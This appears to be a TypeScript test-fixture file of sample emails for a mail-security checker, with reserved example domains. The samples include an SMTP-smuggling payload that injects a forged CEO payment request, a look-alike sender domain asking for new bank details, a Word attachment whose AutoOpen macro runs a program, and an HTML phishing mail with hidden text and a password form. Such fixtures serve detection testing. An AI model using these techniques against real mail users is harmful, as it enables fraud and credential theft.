// Samples about what is inside: a bounce, a message in a message, signatures of persons, an attachment that is not what it
// says, a name that imitates another, a header section alone.

import { keyRecord } from "#lib/checks/dkim/signer.test-support.ts";
import { macroProject, wordDocument } from "#lib/content/inspect/examples/office.ts";
import { type Draft, harbourKeys, harbourZone, hops, readKey, submission, timetable } from "./draft.ts";

const bounce = `From: Mail Delivery System <MAILER-DAEMON@mx1.far.example>
To: robin@corp.example
Subject: Undelivered Mail Returned to Sender
Date: Mon, 16 Nov 2026 10:00:41 +0000
Message-ID: <20261116100041.4dK6@mx1.far.example>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="4dK6.1763287241/mx1.far.example"

--4dK6.1763287241/mx1.far.example
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx1.far.example. Your message could not be delivered.

<kim.lund@far.example>: host store.far.example[192.0.2.144] said: 552 5.2.2 Mailbox is full
--4dK6.1763287241/mx1.far.example
Content-Type: message/delivery-status

Reporting-MTA: dns; mx1.far.example
X-Queue-ID: 4dK6
Arrival-Date: Mon, 16 Nov 2026 10:00:39 +0000

Final-Recipient: rfc822; kim.lund@far.example
Original-Recipient: rfc822;kim.lund@far.example
Action: failed
Status: 5.2.2
Remote-MTA: dns; store.far.example
Diagnostic-Code: smtp; 552 5.2.2 Mailbox is full

--4dK6.1763287241/mx1.far.example
Content-Type: text/rfc822-headers

Received: from mx1.corp.example (mx1.corp.example [203.0.113.10])
\tby mx1.far.example (Postfix) with ESMTPS id 4dK6; Mon, 16 Nov 2026 10:00:39 +0000
From: Robin Ward <robin@corp.example>
To: kim.lund@far.example
Subject: Lunch on Thursday?
Date: Mon, 16 Nov 2026 11:00:36 +0100
Message-ID: <b07c@corp.example>

--4dK6.1763287241/mx1.far.example--
`;

const farTrace = hops("mx1.far.example", "192.0.2.140")
  .replace("<post@harbour.example>", "<>")
  .replaceAll("09:14", "11:00")
  .replace("11:00:09", "11:00:44")
  .replace("11:00:11", "11:00:46");

const farZone = [
  "far.example\tMX\t10 mx1.far.example",
  "mx1.far.example\tA\t192.0.2.140",
  "mx1.far.example\tTXT\tv=spf1 a -all",
  "140.2.0.192.in-addr.arpa\tPTR\tmx1.far.example",
  "corp.example\tMX\t10 mx1.corp.example",
  "mx1.corp.example\tA\t203.0.113.10",
];

/** The end of DATA in a form that some servers took for one: what follows became a message of its own. */
const smuggled = `${timetable.trimEnd()}

.\r
MAIL FROM:<ceo@corp.example>\r
RCPT TO:<robin@corp.example>\r
DATA\r
From: The board <ceo@corp.example>\r
To: robin@corp.example\r
Subject: Please pay the invoice today\r
\r
Robin, this one is urgent. The account number has changed.\r
`;

const signedByPerson = `From: Kim Lund <kim@harbour.example>
To: Robin Ward <robin@corp.example>
Subject: Contract, signed
Date: Mon, 16 Nov 2026 08:14:00 +0000
Message-ID: <20261116081400.c51d@harbour.example>
MIME-Version: 1.0
Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="=_sig"

--=_sig
Content-Type: multipart/mixed; boundary="=_in"

--=_in
Content-Type: text/plain; charset=utf-8

Here is the contract. The certificate is in the signature.
--=_in
Content-Type: text/plain; charset=utf-8; name="contract.txt"
Content-Disposition: attachment; filename="contract.txt"

1. The boat leaves at 6:40.
2. The boat comes back.
--=_in--

--=_sig
Content-Type: application/pkcs7-signature; name="smime.p7s"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="smime.p7s"

MIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0BBwEAADGCAAAA
AAA=
--=_sig--
`;

const lookAlike = timetable
  .replaceAll("harbour.example", "harb0ur.example")
  .replace("Robin Ward <robin@corp.example>", "Robin Ward <robin@corp.example>, desk@harbour.example")
  .replace("Winter timetable =?UTF-8?Q?=E2=80=93?= please note the early boat", "Your ticket: new bank details");

const unsubscribable = timetable.replace(
  "MIME-Version",
  `List-Id: News of Harbour Ferries <news.harbour.example>
List-Unsubscribe: <https://harbour.example/off?k=77f1>, <mailto:off@harbour.example>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
MIME-Version`,
);

/** A document that starts a program when it is opened. It does nothing: the program it names is not there. */
const macroSource = `Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
  Shell "order-helper.exe"
End Sub
`;

const withMacro = `From: Orders <orders@freight-desk.example>
To: Robin Ward <robin@corp.example>
Subject: Order 40172, please confirm
Date: Mon, 16 Nov 2026 08:14:00 +0000
Message-ID: <40172@freight-desk.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=_order"

--=_order
Content-Type: text/plain; charset=us-ascii

Please open the attached order and press "Enable content".
--=_order
Content-Type: application/msword; name="order-40172.doc"
Content-Disposition: attachment; filename="order-40172.doc"
Content-Transfer-Encoding: base64

${wordDocument(macroProject(macroSource)).toString("base64").replace(/.{76}/g, "$&\n")}
--=_order--
`;

const hiddenTexts = `From: Parcel Service <service@parcel-desk.example>
To: Robin Ward <robin@corp.example>
Subject: Your parcel waits
Date: Mon, 16 Nov 2026 08:14:00 +0000
Message-ID: <p-771@parcel-desk.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<p>Your par<span style="font-size:0">k2</span>cel could not be deli<span style="font-size:0">x9</span>vered today.</p>
<p>Choose another day at
<a href="https://www.google.com/url?q=https%3A%2F%2Fparcel-desk.example.pickup-day.example%2Flogin%3Fu%3Drobin%40corp.example">https://www.parcel-desk.example</a></p>
<div style="color:#ffffff;background:#ffffff">thank you for the minutes of the meeting and the photographs of the garden</div>
<form action="https://pickup-day.example/take"><input name="user"><input type="password" name="word"></form>
<img src="https://pixel.pickup-day.example/o.gif?u=robin%40corp.example" width="1" height="1">
`;

const twoAuthors = timetable.replace("To: Robin", "From: North Bank Service <service@northbank.example>\nTo: Robin");

/** A domain whose mail comes from a service for many. */
const bulkZone = (domain: string) => [
  `${domain}\tTXT\tv=spf1 ip4:198.51.100.64/26 -all`,
  `${domain}\tMX\t10 mailer-77.bulk.example`,
  "mailer-77.bulk.example\tA\t198.51.100.77",
  "77.100.51.198.in-addr.arpa\tPTR\tmailer-77.bulk.example",
  "corp.example\tMX\t10 mx1.corp.example",
  "mx1.corp.example\tA\t203.0.113.10",
];

export const contentDrafts: readonly Draft[] = [
  { id: "bounce", trace: farTrace, message: bounce, sign: [], zone: farZone },
  {
    id: "smuggled",
    trace: hops("out.harbour.example", "198.51.100.24") + submission,
    message: smuggled,
    sign: harbourKeys,
    // The line end before the dot is a bare LF: that is the trick.
    edit: (text) => text.replace("\r\n.\r\nMAIL", "\n.\r\nMAIL"),
    zone: harbourZone,
  },
  {
    id: "signed-by-person",
    trace: hops("out.harbour.example", "198.51.100.24") + submission,
    message: signedByPerson,
    sign: harbourKeys,
    zone: harbourZone,
  },
  {
    id: "look-alike",
    trace: hops("mailer-77.bulk.example", "198.51.100.77").replace("post@harbour.example", "post@harb0ur.example"),
    message: lookAlike,
    sign: [{ domain: "harb0ur.example", selector: "m1", key: "rsa-2048" }],
    zone: [
      ...harbourZone,
      "harb0ur.example\tTXT\tv=spf1 ip4:198.51.100.64/26 -all",
      "harb0ur.example\tMX\t10 mailer-77.bulk.example",
      "_dmarc.harb0ur.example\tTXT\tv=DMARC1; p=reject",
      `m1._domainkey.harb0ur.example\tTXT\t${keyRecord(readKey("rsa-2048"))}`,
      "mailer-77.bulk.example\tA\t198.51.100.77",
      "77.100.51.198.in-addr.arpa\tPTR\tmailer-77.bulk.example",
    ],
  },
  {
    id: "newsletter",
    trace: hops("out.harbour.example", "198.51.100.24") + submission,
    message: unsubscribable,
    alsoSigned: ["List-Unsubscribe", "List-Unsubscribe-Post"],
    sign: harbourKeys,
    zone: harbourZone,
  },
  {
    id: "two-senders",
    trace: hops("out.harbour.example", "198.51.100.24") + submission,
    message: twoAuthors,
    sign: harbourKeys,
    zone: [
      ...harbourZone,
      "northbank.example\tMX\t10 gateway.northbank.example",
      "gateway.northbank.example\tA\t192.0.2.200",
    ],
  },
  {
    id: "macro",
    trace: hops("mailer-77.bulk.example", "198.51.100.77").replace(
      "post@harbour.example",
      "orders@freight-desk.example",
    ),
    message: withMacro,
    sign: [],
    zone: bulkZone("freight-desk.example"),
  },
  {
    id: "hidden-texts",
    trace: hops("mailer-77.bulk.example", "198.51.100.77").replace(
      "post@harbour.example",
      "service@parcel-desk.example",
    ),
    message: hiddenTexts,
    sign: [],
    zone: bulkZone("parcel-desk.example"),
  },
  {
    id: "header-only",
    trace: hops("out.harbour.example", "198.51.100.24") + submission,
    message: timetable,
    sign: harbourKeys,
    edit: (text) => text.slice(0, text.indexOf("\r\n\r\n") + 2),
    zone: harbourZone,
  },
];
